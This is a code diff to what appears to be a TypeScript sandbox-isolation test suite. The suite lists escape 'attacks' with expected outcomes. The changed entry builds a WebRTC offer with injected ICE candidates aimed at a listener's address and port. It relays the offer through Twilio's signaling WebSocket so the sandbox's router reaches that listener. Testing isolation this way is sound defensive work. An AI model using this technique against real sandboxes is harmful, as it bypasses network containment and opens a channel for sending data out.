@@ -5,24 +5,31 @@ import type { Attack } from './attack';
  * user fragment. Those that change what the language itself does get a pane of their own.
  */
 
-/** Through the sandbox's own router, which only the sandbox has. */
-export const ROUTER_ATTACKS: readonly Attack[] = [
+/**
+ * Through the sandbox's own router, which only the sandbox has.
+ * @param lines of a description, where `ADDRESS` and `PORT` stand for the listener.
+ */
+export const routerAttacks = (lines: readonly string[]): readonly Attack[] => [
   {
-    name: 'the router, by a candidate named to Twilio’s service',
-    run: async ({ address, udpPort }) => {
+    name: 'the router, by candidates named to Twilio’s service',
+    given: lines,
+    run: async ({ address, udpPort }, lines) => {
       const access = (await (await fetch('/access', { method: 'POST' })).json()) as {
         token: string;
         room: string;
       };
-      const candidate = `candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
+      const written = (lines as string[]).map((line) =>
+        line.replaceAll('ADDRESS', address).replaceAll('PORT', String(udpPort)),
+      );
       const connection = new RTCPeerConnection();
       connection.addTransceiver('audio');
       await connection.setLocalDescription();
-      const sdp = `${connection.localDescription?.sdp}a=${candidate}\r\n`;
+      const sdp = `${connection.localDescription?.sdp}${written.join('\r\n')}\r\n`;
       const ufrag = /a=ice-ufrag:(\S+)/.exec(sdp)?.[1];
       const participant = { revision: 1, tracks: [] };
       const description = { type: 'offer', revision: 1, sdp };
-      const ice = { candidates: [{ candidate, sdpMid: '0', sdpMLineIndex: 0 }], ufrag, revision: 1 };
+      const named = written.map((line) => ({ candidate: line.slice(2), sdpMid: '0', sdpMLineIndex: 0 }));
+      const ice = { candidates: named, ufrag, revision: 1 };
       const socket = new WebSocket('wss://global.vss.twilio.com/signaling');
       const send = (message: object): void => socket.send(JSON.stringify(message));
       socket.onopen = () => {
@@ -190,7 +197,7 @@ export const WEBRTC_ATTACKS: readonly Attack[] = [
       connection.createDataChannel('x');
       return connection.setLocalDescription();
     },
-    outcome: 'SecurityError',
+    outcome: 'TypeError', // there is no frame
   },
   {
     name: 'a fresh realm: scripts in nested documents',
